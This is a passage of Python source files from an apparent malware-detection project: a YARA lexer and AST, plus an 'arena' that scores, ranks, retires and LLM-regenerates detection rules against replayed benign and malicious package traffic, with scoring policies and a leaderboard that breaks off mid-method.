        self._previous_was_assign = token_type == PUNCT and value == "="

    # -- main loop -----------------------------------------------------------
    def tokenize(self) -> list[Token]:
        while self.pos < len(self.source):
            ch = self._peek()
            if ch in " \t\r\n":
                self._advance()
                continue
            if ch == "/" and self._peek(1) == "/":
                self._skip_line_comment()
                continue
            if ch == "/" and self._peek(1) == "*":
                self._skip_block_comment()
                continue
            line, column = self.line, self.column
            if ch == '"':
                self._emit(STRING_LITERAL, self._read_string_literal(), line, column)
            elif ch == "/":
                self._emit(REGEX_LITERAL, self._read_regex_literal(), line, column)
            elif ch == "{" and self._previous_was_assign:
                self._emit(HEX_STRING, self._read_hex_string(), line, column)
            elif ch == "$":
                self._emit(STRING_ID, self._read_dollar_identifier(), line, column)
            elif ch == "#":
                self._emit(STRING_COUNT, self._read_dollar_identifier(), line, column)
            elif ch.isdigit():
                self._emit(INTEGER, self._read_integer(), line, column)
            elif ch.isalpha() or ch == "_":
                word = self._read_word()
                self._emit(KEYWORD if word in KEYWORDS else IDENTIFIER, word, line, column)
            else:
                punct = self._read_punct()
                self._emit(PUNCT, punct, line, column)
        self.tokens.append(Token(EOF, "", self.line, self.column))
        return self.tokens

    # -- readers ---------------------------------------------------------------
    def _skip_line_comment(self) -> None:
        while self.pos < len(self.source) and self._peek() != "\n":
            self._advance()

    def _skip_block_comment(self) -> None:
        start_line = self.line
        self._advance(2)
        while self.pos < len(self.source):
            if self._peek() == "*" and self._peek(1) == "/":
                self._advance(2)
                return
            self._advance()
        raise YaraSyntaxError("unterminated block comment", line=start_line)

    def _read_string_literal(self) -> str:
        start_line = self.line
        self._advance()  # opening quote
        chars: list[str] = []
        while True:
            if self.pos >= len(self.source) or self._peek() == "\n":
                raise YaraSyntaxError("unterminated string literal", line=start_line)
            ch = self._advance()
            if ch == "\\":
                escaped = self._advance()
                if escaped == "n":
                    chars.append("\n")
                elif escaped == "t":
                    chars.append("\t")
                elif escaped in ('"', "\\"):
                    chars.append(escaped)
                elif escaped == "x":
                    code = self._advance(2)
                    try:
                        chars.append(chr(int(code, 16)))
                    except ValueError as exc:
                        raise self._error(f"invalid hex escape: \\x{code}") from exc
                else:
                    chars.append("\\" + escaped)
                continue
            if ch == '"':
                return "".join(chars)
            chars.append(ch)

    def _read_regex_literal(self) -> str:
        start_line = self.line
        self._advance()  # opening slash
        chars: list[str] = []
        while True:
            if self.pos >= len(self.source) or self._peek() == "\n":
                raise YaraSyntaxError("unterminated regular expression", line=start_line)
            ch = self._advance()
            if ch == "\\":
                chars.append(ch + self._advance())
                continue
            if ch == "/":
                # optional regex modifiers (i, s) directly after the slash are
                # folded into an inline flag group understood by Python's re.
                flags = ""
                while self._peek() in ("i", "s"):
                    flags += self._advance()
                pattern = "".join(chars)
                if flags:
                    pattern = f"(?{flags})" + pattern
                return pattern
            chars.append(ch)

    def _read_hex_string(self) -> str:
        start_line = self.line
        self._advance()  # opening brace
        chars: list[str] = []
        while True:
            if self.pos >= len(self.source):
                raise YaraSyntaxError("unterminated hex string", line=start_line)
            ch = self._advance()
            if ch == "}":
                return "".join(chars).strip()
            chars.append(ch)

    def _read_dollar_identifier(self) -> str:
        prefix = self._advance()  # '$' or '#'
        chars = [prefix]
        while self._peek().isalnum() or self._peek() == "_":
            chars.append(self._advance())
        if self._peek() == "*":
            chars.append(self._advance())
        return "".join(chars)

    def _read_integer(self) -> str:
        chars = []
        if self._peek() == "0" and self._peek(1) in ("x", "X"):
            chars.append(self._advance(2))
            while self._peek() in "0123456789abcdefABCDEF":
                chars.append(self._advance())
            return "".join(chars)
        while self._peek().isdigit():
            chars.append(self._advance())
        # size multipliers KB / MB
        if self._peek(0) in ("K", "M") and self._peek(1) == "B":
            chars.append(self._advance(2))
        return "".join(chars)

    def _read_word(self) -> str:
        chars = []
        while self._peek().isalnum() or self._peek() == "_":
            chars.append(self._advance())
        return "".join(chars)

    def _read_punct(self) -> str:
        for punct in _PUNCTUATION:
            if self.source.startswith(punct, self.pos):
                self._advance(len(punct))
                return punct
        raise self._error(f"unexpected character: {self._peek()!r}")


def tokenize(source: str) -> list[Token]:
    """Tokenize YARA source text."""
    return Lexer(source).tokenize()
