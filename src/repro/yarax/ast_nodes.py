"""Abstract syntax tree for YARA rules."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Union

# -- string definitions -------------------------------------------------------

TEXT = "text"
REGEX = "regex"
HEX = "hex"

_VALID_MODIFIERS = {"nocase", "wide", "ascii", "fullword"}


@dataclass
class StringDef:
    """One entry of a rule's ``strings:`` section."""

    identifier: str
    kind: str
    value: str
    modifiers: tuple[str, ...] = ()
    line: int | None = None

    def __post_init__(self) -> None:
        if not self.identifier.startswith("$"):
            raise ValueError(f"string identifier must start with '$': {self.identifier}")
        if self.kind not in (TEXT, REGEX, HEX):
            raise ValueError(f"unknown string kind: {self.kind}")
        unknown = set(self.modifiers) - _VALID_MODIFIERS
        if unknown:
            raise ValueError(f"unknown string modifiers: {sorted(unknown)}")

    @property
    def bare_name(self) -> str:
        return self.identifier[1:]


# -- condition expression nodes ------------------------------------------------

@dataclass
class StringRef:
    """``$a`` -- true when the string has at least one match."""

    identifier: str


@dataclass
class StringCount:
    """``#a`` -- the number of matches of string ``$a``."""

    identifier: str


@dataclass
class IntLiteral:
    value: int


@dataclass
class Filesize:
    """``filesize`` -- length of the scanned data in bytes."""


@dataclass
class BoolLiteral:
    value: bool


@dataclass
class Comparison:
    """Integer comparison, e.g. ``#a > 2`` or ``filesize < 10000``."""

    left: "Expression"
    op: str
    right: "Expression"


@dataclass
class NotExpr:
    operand: "Expression"


@dataclass
class AndExpr:
    operands: list["Expression"] = field(default_factory=list)


@dataclass
class OrExpr:
    operands: list["Expression"] = field(default_factory=list)


@dataclass
class StringSet:
    """A string set: ``them`` or ``($a, $b*, ...)``."""

    them: bool = False
    members: tuple[str, ...] = ()  # identifiers, possibly ending with '*'


@dataclass
class OfExpr:
    """``any of them``, ``all of them``, ``2 of ($a*)`` ..."""

    quantifier: Union[int, str]  # int, "any" or "all"
    string_set: StringSet = field(default_factory=lambda: StringSet(them=True))


Expression = Union[
    StringRef,
    StringCount,
    IntLiteral,
    Filesize,
    BoolLiteral,
    Comparison,
    NotExpr,
    AndExpr,
    OrExpr,
    OfExpr,
]


# -- rule ------------------------------------------------------------------------

@dataclass
class RuleAst:
    """A parsed YARA rule."""

    name: str
    tags: tuple[str, ...] = ()
    meta: dict[str, object] = field(default_factory=dict)
    strings: list[StringDef] = field(default_factory=list)
    condition: Expression | None = None
    line: int | None = None

    def string(self, identifier: str) -> StringDef | None:
        for entry in self.strings:
            if entry.identifier == identifier:
                return entry
        return None

    def string_identifiers(self) -> list[str]:
        return [entry.identifier for entry in self.strings]


def walk_expression(expr: Expression):
    """Yield every node of a condition expression tree (pre-order)."""
    yield expr
    if isinstance(expr, (AndExpr, OrExpr)):
        for operand in expr.operands:
            yield from walk_expression(operand)
    elif isinstance(expr, NotExpr):
        yield from walk_expression(expr.operand)
    elif isinstance(expr, Comparison):
        yield from walk_expression(expr.left)
        yield from walk_expression(expr.right)


def referenced_strings(expr: Expression) -> set[str]:
    """Return the identifiers of all strings referenced *exactly* by a condition.

    Wildcard members of an ``of`` string set (``$net*``) are not returned
    here; they are validated separately because they refer to a prefix, not a
    single definition.
    """
    referenced: set[str] = set()
    for node in walk_expression(expr):
        if isinstance(node, (StringRef, StringCount)):
            referenced.add(node.identifier)
        elif isinstance(node, OfExpr) and not node.string_set.them:
            for member in node.string_set.members:
                if not member.endswith("*"):
                    referenced.add(member)
    return referenced


def wildcard_references(expr: Expression) -> set[str]:
    """Return the wildcard prefixes (without the ``*``) used in ``of`` sets."""
    prefixes: set[str] = set()
    for node in walk_expression(expr):
        if isinstance(node, OfExpr) and not node.string_set.them:
            for member in node.string_set.members:
                if member.endswith("*"):
                    prefixes.add(member[:-1])
    return prefixes


def uses_them(expr: Expression) -> bool:
    """Return True if the condition contains an ``of them`` expression."""
    return any(isinstance(node, OfExpr) and node.string_set.them for node in walk_expression(expr))


def has_of_expression(expr: Expression) -> bool:
    """Return True if the condition contains any ``of`` expression."""
    return any(isinstance(node, OfExpr) for node in walk_expression(expr))
