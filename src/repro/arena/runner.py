"""`ArenaRunner` — the standing service that makes rules earn their keep.

One *round* is the whole quality loop over one ruleset version:

1. **replay** — stream a seeded traffic round (adversarial variants +
   benign packages) through the version, chunk by chunk, via
   :meth:`~repro.scanserve.service.ScanService.scan_batch`;
2. **score** — fold the chunk results into per-rule verdicts under the
   configured scoring policy (:mod:`repro.arena.scoring`);
3. **rank** — fold the verdicts into the persistent leaderboard
   (:mod:`repro.arena.leaderboard`);
4. **retire** — walk the lifecycle tracker; when a rule crosses the
   retire threshold, publish a successor version *without* it and stamp a
   :class:`~repro.scanserve.registry.RetirementRecord` onto the decayed
   version;
5. **refeed** — the round's missed malicious packages (collected across
   rounds in the :class:`~repro.arena.lifecycle.RefinementCorpus`) go
   back through a generation session; the refined rules are merged with
   the survivors into the successor publish.

The runner can be driven synchronously (:meth:`run_round`) or subscribe
to the registry's :class:`~repro.scanserve.registry.PublishEvent` bus
(:meth:`start`): every *activated* publish is queued and scored by a
worker thread, so a generation fleet's publishes enter the arena with
zero glue.  :meth:`stop` drains the queue by default before the worker
exits.

Successor publishes need the retired version's rule *sources* (compiled
versions keep only matchers).  Callers that publish through a session or
orchestrator hand the rule set over via :meth:`register_sources`; without
sources the successor carries the refined rules alone.
"""

from __future__ import annotations

import queue
import threading
import time
from dataclasses import dataclass, field
from json import dumps as json_dumps
from pathlib import Path
from typing import List, Optional

from repro.arena.leaderboard import Leaderboard
from repro.arena.lifecycle import (
    RETIRE,
    LifecycleAction,
    LifecyclePolicy,
    LifecycleTracker,
    RefinementCorpus,
    refine_rules,
)
from repro.arena.scoring import (
    RuleScore,
    context_for_batches,
    fold_batches,
    score_rules,
)
from repro.arena.traffic import ReplayTraffic
from repro.obs.metrics import get_registry as _obs_registry
from repro.obs.trace import get_tracer
from repro.scanserve.registry import (
    PublishEvent,
    RulesetVersion,
    merge_shard_rulesets,
)
from repro.scanserve.service import ScanService
from repro.utils.atomic import atomic_write_text

_STOP = object()  # worker-queue sentinel


@dataclass
class ArenaConfig:
    """Knobs of the standing arena."""

    policy: str = "weighted"
    history_limit: int = 32  # rounds kept in memory / in the history file
    refeed: bool = True  # regenerate from misses when retirement fires
    refeed_min_packages: int = 1
    coverage_saturation: int = 3  # forwarded to the weighted policy
    model: str = "gpt-4o"  # generation profile of refeed sessions
    seed: int = 1633

    def __post_init__(self) -> None:
        if self.history_limit < 1:
            raise ValueError("history_limit must be >= 1")
        if self.refeed_min_packages < 1:
            raise ValueError("refeed_min_packages must be >= 1")


@dataclass
class ArenaRound:
    """Everything one round decided."""

    index: int
    version: int
    policy: str
    packages: int = 0
    malicious: int = 0
    benign: int = 0
    missed_collected: int = 0
    scores: List[RuleScore] = field(default_factory=list)
    actions: List[LifecycleAction] = field(default_factory=list)
    retired_version: Optional[int] = None
    refeed_version: Optional[int] = None
    elapsed_seconds: float = 0.0
    journal_epoch: Optional[int] = None  # store anchor (None without a store)

    @property
    def retired_rules(self) -> List[str]:
        return sorted(a.rule for a in self.actions if a.action == RETIRE)

    def to_dict(self) -> dict:
        return {
            "index": self.index,
            "version": self.version,
            "policy": self.policy,
            "packages": self.packages,
            "malicious": self.malicious,
            "benign": self.benign,
            "missed_collected": self.missed_collected,
            "scores": [s.to_dict() for s in self.scores],
            "actions": [a.to_dict() for a in self.actions],
            "retired_rules": self.retired_rules,
            "retired_version": self.retired_version,
            "refeed_version": self.refeed_version,
            "elapsed_seconds": round(self.elapsed_seconds, 6),
            "journal_epoch": self.journal_epoch,
        }

    def describe(self) -> str:
        top = self.scores[0].describe() if self.scores else "no rules"
        extras = []
        if self.retired_rules:
            extras.append(f"retired {', '.join(self.retired_rules)}")
        if self.refeed_version is not None:
            extras.append(f"refeed -> v{self.refeed_version}")
        suffix = f" [{'; '.join(extras)}]" if extras else ""
        return (
            f"round {self.index} v{self.version}: {self.packages} pkgs "
            f"({self.malicious} malicious), top {top}{suffix}"
        )


class ArenaRunner:
    """Continuous rule-quality rounds over a scan service's registry."""

    def __init__(
        self,
        service: ScanService,
        traffic: ReplayTraffic,
        leaderboard: Optional[Leaderboard] = None,
        policy: Optional[LifecyclePolicy] = None,
        config: Optional[ArenaConfig] = None,
        history_path: Optional[Path] = None,
        provider=None,
        store=None,
    ) -> None:
        self.service = service
        self.registry = service.registry
        self.traffic = traffic
        # explicit None check: an empty Leaderboard is falsy (it has __len__)
        self.leaderboard = leaderboard if leaderboard is not None else Leaderboard()
        self.config = config or ArenaConfig()
        self.tracker = LifecycleTracker(policy)
        self.corpus = RefinementCorpus()
        self.history: List[ArenaRound] = []
        self.history_path = Path(history_path) if history_path else None
        self._provider = provider  # refeed sessions reuse one LLM provider
        self._sources: dict[int, object] = {}  # version -> GeneratedRuleSet
        #: Optional :class:`repro.store.RuleStore`: every round appends an
        #: ``arena-round`` record, and a restarted runner continues its
        #: round numbering from the journal instead of starting over at 0
        #: (the traffic's per-round seeds and the leaderboard's round
        #: indexes both key off it).
        self.store = store
        self._round_counter = 0
        if store is not None:
            for record in store.journal.replay():
                if record.type == "arena-round":
                    self._round_counter = max(
                        self._round_counter, int(record.data.get("index", -1)) + 1
                    )
        self._round_lock = threading.Lock()
        self._pending: "queue.Queue" = queue.Queue()
        self._thread: Optional[threading.Thread] = None
        self._token: Optional[int] = None
        self._drain = True
        self._suppress_events = False  # arena's own refeed publishes

    @property
    def next_round_index(self) -> int:
        """Index the next round will run as (journal-recovered after a restart)."""
        return self._round_counter

    # -- sources ----------------------------------------------------------------------
    def register_sources(self, version: int, ruleset) -> None:
        """Remember the generated rule set behind a published version.

        Needed to publish a successor *minus* retired rules: compiled
        versions keep matchers, not sources.
        """
        self._sources[version] = ruleset

    # -- auto mode: the registry event bus --------------------------------------------
    def start(self) -> "ArenaRunner":
        """Subscribe to the publish bus and score activations on a worker."""
        if self._thread is not None:
            raise RuntimeError("arena runner already started")
        self._token = self.registry.subscribe(self._on_event)
        self._thread = threading.Thread(
            target=self._worker, name="arena-runner", daemon=True
        )
        self._thread.start()
        return self

    def _on_event(self, event: PublishEvent) -> None:
        if not event.activated or self._suppress_events:
            return
        self._pending.put(event.version.version)

    def _worker(self) -> None:
        while True:
            item = self._pending.get()
            if item is _STOP:
                if self._drain:
                    while True:
                        try:
                            leftover = self._pending.get_nowait()
                        except queue.Empty:
                            break
                        if leftover is not _STOP:
                            self._run_safely(leftover)
                return
            self._run_safely(item)

    def _run_safely(self, version: int) -> None:
        try:
            self.run_round(version)
        except Exception:  # a broken round must not kill the worker
            pass

    def stop(self, drain: bool = True, timeout: float = 60.0) -> None:
        """Unsubscribe and stop the worker, draining queued rounds by default."""
        if self._token is not None:
            self.registry.unsubscribe(self._token)
            self._token = None
        if self._thread is None:
            return
        self._drain = drain
        self._pending.put(_STOP)
        self._thread.join(timeout)
        self._thread = None

    @property
    def pending_rounds(self) -> int:
        return self._pending.qsize()

    # -- one round ---------------------------------------------------------------------
    def run_round(self, version: Optional[int] = None) -> ArenaRound:
        """Replay, score, rank and (maybe) retire one version. Thread-safe."""
        with self._round_lock:
            return self._round(version)

    def _round(self, version: Optional[int]) -> ArenaRound:
        with get_tracer().span("arena.round") as span:
            record = self._round_inner(version)
            span.set_attr("index", record.index)
            span.set_attr("packages", record.packages)
            span.set_attr("retired", len(record.retired_rules))
        obs = _obs_registry()
        obs.counter("repro_arena_rounds_total", "Arena rounds completed.").inc()
        obs.histogram(
            "repro_arena_round_seconds", "Wall time per arena round."
        ).observe(record.elapsed_seconds)
        if record.retired_rules:
            obs.counter(
                "repro_arena_retired_rules_total", "Rules auto-retired by the arena."
            ).inc(len(record.retired_rules))
        return record

    def _round_inner(self, version: Optional[int]) -> ArenaRound:
        started = time.perf_counter()
        target = (
            self.registry.current() if version is None else self.registry.get(version)
        )
        rule_names = _rule_names(target)
        index = self._round_counter
        self._round_counter += 1

        batches = []
        missed = 0
        for chunk in self.traffic.round_chunks(index):
            batch = self.service.scan_batch(
                chunk, version=target.version, record_recency=False
            )
            batches.append(batch)
            missed += self.corpus.collect_missed(batch.result, chunk)

        stats = fold_batches(batches, rule_names)
        context = context_for_batches(
            batches,
            round_index=index,
            coverage_saturation=self.config.coverage_saturation,
        )
        scores = score_rules(stats, policy=self.config.policy, context=context)
        actions = self.tracker.observe(scores, index)
        self.leaderboard.record_round(
            scores, index, namespace=self.registry.namespace
        )
        for action in actions:
            self.leaderboard.set_status(
                self.registry.namespace, action.rule, _status_of(action)
            )
        if actions:  # record_round saved before the status updates landed
            self.leaderboard.save()

        record = ArenaRound(
            index=index,
            version=target.version,
            policy=self.config.policy,
            packages=sum(b.packages for b in batches),
            malicious=context.malicious_packages,
            benign=context.benign_packages,
            missed_collected=missed,
            scores=scores,
            actions=actions,
        )
        retired = [a for a in actions if a.action == RETIRE]
        if retired and self.config.refeed:
            record.refeed_version, record.retired_version = self._refeed(
                target, [a.rule for a in retired], index
            )
        record.elapsed_seconds = time.perf_counter() - started
        if self.store is not None:
            record.journal_epoch = self.store.journal.append(
                "arena-round",
                {
                    "index": record.index,
                    "version": record.version,
                    "policy": record.policy,
                    "packages": record.packages,
                    "malicious": record.malicious,
                    "retired_rules": record.retired_rules,
                    "retired_version": record.retired_version,
                    "refeed_version": record.refeed_version,
                },
            )
        self.history.append(record)
        del self.history[: -self.config.history_limit]
        self._persist_history()
        return record

    # -- retire + refeed --------------------------------------------------------------
    def _refeed(
        self, target: RulesetVersion, retired_rules: List[str], round_index: int
    ) -> tuple[Optional[int], Optional[int]]:
        """Publish a successor without the retired rules, refined on misses.

        Returns ``(refeed version, retired version)`` — both ``None`` when
        no successor could be built (no sources *and* no refined rules).
        """
        from repro.core.config import RuleLLMConfig  # deferred: pipeline layer
        from repro.core.rules import GeneratedRuleSet

        kept = None
        source = self._sources.get(target.version)
        if source is not None:
            kept = GeneratedRuleSet(model=getattr(source, "model", ""))
            for rule in source.rules:
                if rule.name not in set(retired_rules):
                    kept.add(rule)

        refined = None
        if len(self.corpus) >= self.config.refeed_min_packages:
            missed = self.corpus.drain()
            result = refine_rules(
                missed,
                config=RuleLLMConfig.full(
                    model=self.config.model, seed=self.config.seed
                ),
                provider=self._provider,
                label=f"arena-refit-r{round_index}",
            )
            if result.rule_set.rules:
                refined = result.rule_set

        label = f"arena-refit-r{round_index}"
        self._suppress_events = True  # don't score our own publish recursively
        try:
            if kept is not None and kept.rules and refined is not None:
                merged, provenance = merge_shard_rulesets(
                    [("kept", kept), ("refit", refined)]
                )
                successor = self.registry.publish_merged_set(
                    merged, provenance, label=label
                )
                self._sources[successor.version] = merged
            elif refined is not None:
                successor = self.registry.publish_generated(refined, label=label)
                self._sources[successor.version] = refined
            elif kept is not None and kept.rules:
                successor = self.registry.publish_generated(kept, label=label)
                self._sources[successor.version] = kept
            else:
                return None, None
        finally:
            self._suppress_events = False

        shown = sorted(retired_rules)
        listed = ", ".join(shown[:4])
        if len(shown) > 4:
            listed += f" (+{len(shown) - 4} more)"
        try:
            self.registry.retire(
                target.version,
                reason=(
                    f"score decay in {listed}; superseded by v{successor.version}"
                ),
                retired_by="arena",
            )
            retired_version: Optional[int] = target.version
        except ValueError:  # the decayed version is still live (not activated over)
            retired_version = None
        return successor.version, retired_version

    # -- persistence ------------------------------------------------------------------
    def _persist_history(self) -> None:
        if self.history_path is None:
            return
        self.history_path.parent.mkdir(parents=True, exist_ok=True)
        payload = {"rounds": [record.to_dict() for record in self.history]}
        atomic_write_text(
            self.history_path,
            json_dumps(payload, indent=2, sort_keys=True) + "\n",
        )


def _rule_names(version: RulesetVersion) -> List[str]:
    names: List[str] = []
    if version.yara is not None:
        names.extend(version.yara.rule_names())
    if version.semgrep is not None:
        names.extend(version.semgrep.rule_ids())
    return names


def _status_of(action: LifecycleAction) -> str:
    return {
        "flag": "flagged",
        "quarantine": "quarantined",
        "retire": "retired",
        "recover": "active",
    }[action.action]


__all__ = ["ArenaConfig", "ArenaRound", "ArenaRunner"]
