"""Scoring policies: fold scan batches into per-rule verdicts.

A rule's raw material is its :class:`~repro.evaluation.per_rule.PerRuleStats`
over one arena round — how often it fired on malicious vs benign traffic.
What that is *worth* is policy: a registry gating publishes wants benign
matches punished hard, a research harness wants silent rules held at a
neutral prior instead of executed on sight.  Policies are plain functions
``(stats, context) -> float in [0, 1]`` registered under a name with the
:func:`scoring_policy` decorator, so deployments add their own without
touching the arena:

    @scoring_policy("paranoid")
    def paranoid(stats, context):
        return 0.0 if stats.benign_matches else strict(stats, context)

Built-in policies:

``strict``
    Precision, nothing else.  Silent rules score 0 — a rule that never
    fires earns nothing.
``lenient``
    Laplace-smoothed precision ``(mal + 1) / (total + 2)``.  Silent rules
    sit at the 0.5 prior; one benign match cannot zero a rule out.
``weighted``
    Precision damped by saturating coverage ``c / (c + k)`` — a rule must
    be both right *and* reach to score, which is the default the arena
    ranks by.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Dict, Iterable, List, Optional, Sequence

from repro.evaluation.per_rule import (
    PerRuleStats,
    merge_per_rule_stats,
    per_rule_statistics,
)

#: Policy signature: per-rule stats + round context -> score in [0, 1].
ScoringPolicy = Callable[[PerRuleStats, "ScoringContext"], float]

#: The decorator-registered policy table.
SCORING_POLICIES: Dict[str, ScoringPolicy] = {}


def scoring_policy(name: str) -> Callable[[ScoringPolicy], ScoringPolicy]:
    """Register a scoring policy under ``name`` (last registration wins)."""

    def register(policy: ScoringPolicy) -> ScoringPolicy:
        SCORING_POLICIES[name] = policy
        policy.policy_name = name  # type: ignore[attr-defined]
        return policy

    return register


def get_policy(name: str) -> ScoringPolicy:
    try:
        return SCORING_POLICIES[name]
    except KeyError:
        known = ", ".join(sorted(SCORING_POLICIES)) or "none"
        raise LookupError(
            f"unknown scoring policy {name!r} (registered: {known})"
        ) from None


@dataclass(frozen=True)
class ScoringContext:
    """What one round looked like, for policies that normalise against it."""

    malicious_packages: int = 0
    benign_packages: int = 0
    round_index: int = 0
    #: ``weighted``'s half-saturation point: a rule covering this many
    #: malicious packages earns half of the full coverage credit.
    coverage_saturation: int = 3


@dataclass
class RuleScore:
    """One rule's verdict for one round."""

    rule: str
    score: float
    precision: float
    coverage: int
    malicious_matches: int
    benign_matches: int
    policy: str

    def to_dict(self) -> dict:
        return {
            "rule": self.rule,
            "score": round(self.score, 6),
            "precision": round(self.precision, 6),
            "coverage": self.coverage,
            "malicious_matches": self.malicious_matches,
            "benign_matches": self.benign_matches,
            "policy": self.policy,
        }

    def describe(self) -> str:
        return (
            f"{self.rule}: {self.score:.3f} "
            f"(precision {self.precision:.2f}, coverage {self.coverage}, "
            f"{self.benign_matches} benign)"
        )


# -- built-in policies --------------------------------------------------------------
@scoring_policy("strict")
def strict(stats: PerRuleStats, context: ScoringContext) -> float:
    """Precision alone; silent rules earn nothing."""
    if stats.total_matches == 0:
        return 0.0
    return stats.precision


@scoring_policy("lenient")
def lenient(stats: PerRuleStats, context: ScoringContext) -> float:
    """Laplace-smoothed precision; silent rules sit at the 0.5 prior."""
    return (stats.malicious_matches + 1) / (stats.total_matches + 2)


@scoring_policy("weighted")
def weighted(stats: PerRuleStats, context: ScoringContext) -> float:
    """Precision damped by saturating coverage: right *and* reaching."""
    if stats.total_matches == 0:
        return 0.0
    k = max(1, context.coverage_saturation)
    reach = stats.coverage / (stats.coverage + k)
    return stats.precision * reach


# -- folding batches into verdicts ---------------------------------------------------
def fold_batches(batches: Sequence, rule_names: Iterable[str]) -> List[PerRuleStats]:
    """Aggregate per-rule stats across many ``BatchScanResult`` s.

    Each batch is scored independently (:func:`per_rule_statistics` over
    its ``result``) and the counts are merged — no package is re-scanned.
    ``rule_names`` should list every rule of the scanned version so silent
    rules keep their zero-count entries.
    """
    names = list(rule_names)
    return merge_per_rule_stats(
        per_rule_statistics(batch.result, names) for batch in batches
    )


def context_for_batches(
    batches: Sequence, round_index: int = 0, coverage_saturation: int = 3
) -> ScoringContext:
    """Build the round context (traffic composition) from scanned batches."""
    malicious = benign = 0
    for batch in batches:
        for detection in batch.result.detections:
            if detection.actual_malicious:
                malicious += 1
            else:
                benign += 1
    return ScoringContext(
        malicious_packages=malicious,
        benign_packages=benign,
        round_index=round_index,
        coverage_saturation=coverage_saturation,
    )


def score_rules(
    stats: Iterable[PerRuleStats],
    policy: str = "weighted",
    context: Optional[ScoringContext] = None,
) -> List[RuleScore]:
    """Apply one policy to every rule's stats.

    Returns verdicts in leaderboard order — score descending, ties broken
    by rule name — so equal scores always rank identically.
    """
    chosen = get_policy(policy)
    context = context or ScoringContext()
    scores = [
        RuleScore(
            rule=entry.rule,
            score=max(0.0, min(1.0, chosen(entry, context))),
            precision=entry.precision,
            coverage=entry.coverage,
            malicious_matches=entry.malicious_matches,
            benign_matches=entry.benign_matches,
            policy=policy,
        )
        for entry in stats
    ]
    scores.sort(key=lambda s: (-round(s.score, 9), s.rule))
    return scores


def score_batches(
    batches: Sequence,
    rule_names: Iterable[str],
    policy: str = "weighted",
    round_index: int = 0,
) -> List[RuleScore]:
    """``fold_batches`` + ``score_rules`` in one call."""
    names = list(rule_names)
    context = context_for_batches(batches, round_index=round_index)
    return score_rules(fold_batches(batches, names), policy=policy, context=context)


__all__ = [
    "SCORING_POLICIES",
    "RuleScore",
    "ScoringContext",
    "ScoringPolicy",
    "context_for_batches",
    "fold_batches",
    "get_policy",
    "score_batches",
    "score_rules",
    "scoring_policy",
]
