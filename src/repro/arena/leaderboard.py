"""Persistent per-rule leaderboard with trend history and rank deltas.

The leaderboard is the arena's memory: every round folds its
:class:`~repro.arena.scoring.RuleScore` s in, entries keyed by
``(registry namespace, rule name)`` so multi-tenant gateways share one
board without collisions.  Each entry keeps a bounded score trend (the
last ``trend_limit`` rounds), its best score, the round it last competed
in, and its rank before/after the latest fold — the rank delta is what a
human watches to spot decay before the lifecycle policy acts.

Ranking is deterministic: score descending, ties broken by rule name then
namespace, scores compared at 9 decimal places so float noise cannot make
two runs disagree.

Persistence is JSON-on-disk through :func:`repro.utils.atomic.
atomic_write_text` (fsync file, atomic rename, fsync directory), so a
crashed runner never leaves a half-written board and a restarted runner
reloads rank history and trends exactly where they stood.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterable, List, Optional, Tuple

from repro.arena.scoring import RuleScore
from repro.utils.atomic import atomic_write_text

#: Entry statuses mirrored from the lifecycle tracker.
ACTIVE = "active"
FLAGGED = "flagged"
QUARANTINED = "quarantined"
RETIRED = "retired"


@dataclass
class LeaderboardEntry:
    """One rule's standing on the board."""

    namespace: str
    rule: str
    score: float = 0.0
    best_score: float = 0.0
    rounds: int = 0
    rank: int = 0
    previous_rank: int = 0  # 0: never ranked before
    status: str = ACTIVE
    last_round: int = -1
    trend: List[float] = field(default_factory=list)

    @property
    def key(self) -> Tuple[str, str]:
        return (self.namespace, self.rule)

    @property
    def rank_delta(self) -> int:
        """Positive = climbed since the previous round, negative = dropped."""
        if not self.previous_rank or not self.rank:
            return 0
        return self.previous_rank - self.rank

    def to_dict(self) -> dict:
        return {
            "namespace": self.namespace,
            "rule": self.rule,
            "score": round(self.score, 6),
            "best_score": round(self.best_score, 6),
            "rounds": self.rounds,
            "rank": self.rank,
            "previous_rank": self.previous_rank,
            "rank_delta": self.rank_delta,
            "status": self.status,
            "last_round": self.last_round,
            "trend": [round(value, 6) for value in self.trend],
        }

    @classmethod
    def from_dict(cls, data: dict) -> "LeaderboardEntry":
        return cls(
            namespace=str(data.get("namespace", "")),
            rule=str(data["rule"]),
            score=float(data.get("score", 0.0)),
            best_score=float(data.get("best_score", 0.0)),
            rounds=int(data.get("rounds", 0)),
            rank=int(data.get("rank", 0)),
            previous_rank=int(data.get("previous_rank", 0)),
            status=str(data.get("status", ACTIVE)),
            last_round=int(data.get("last_round", -1)),
            trend=[float(value) for value in data.get("trend", [])],
        )

    def describe(self) -> str:
        delta = self.rank_delta
        arrow = "=" if not delta else (f"+{delta}" if delta > 0 else str(delta))
        where = f"{self.namespace}/" if self.namespace else ""
        flag = f" [{self.status}]" if self.status != ACTIVE else ""
        trend = " ".join(f"{value:.2f}" for value in self.trend[-4:])
        return (
            f"#{self.rank} ({arrow}) {where}{self.rule}: "
            f"{self.score:.3f} (best {self.best_score:.3f}, "
            f"{self.rounds} rounds, trend {trend}){flag}"
        )


class Leaderboard:
    """In-memory board, optionally mirrored to a JSON file."""

    def __init__(
        self, path: Optional[os.PathLike] = None, trend_limit: int = 32
    ) -> None:
        if trend_limit < 1:
            raise ValueError("trend_limit must be >= 1")
        self.path = Path(path) if path is not None else None
        self.trend_limit = trend_limit
        self.rounds_recorded = 0
        self._entries: dict[Tuple[str, str], LeaderboardEntry] = {}
        if self.path is not None and self.path.exists():
            self._load(self.path)

    # -- folding --------------------------------------------------------------------
    def record_round(
        self,
        scores: Iterable[RuleScore],
        round_index: int,
        namespace: str = "",
    ) -> List[LeaderboardEntry]:
        """Fold one round's verdicts in, re-rank, and persist.

        Entries not covered by ``scores`` (rules of other namespaces or of
        retired versions) keep their standing and are re-ranked against
        the fresh scores.  Returns the full board in rank order.
        """
        for verdict in scores:
            key = (namespace, verdict.rule)
            entry = self._entries.get(key)
            if entry is None:
                entry = LeaderboardEntry(namespace=namespace, rule=verdict.rule)
                self._entries[key] = entry
            entry.score = verdict.score
            entry.best_score = max(entry.best_score, verdict.score)
            entry.rounds += 1
            entry.last_round = round_index
            entry.trend.append(verdict.score)
            del entry.trend[: -self.trend_limit]
        self.rounds_recorded += 1
        self._rerank()
        self.save()
        return self.rankings()

    def _rerank(self) -> None:
        ordered = sorted(
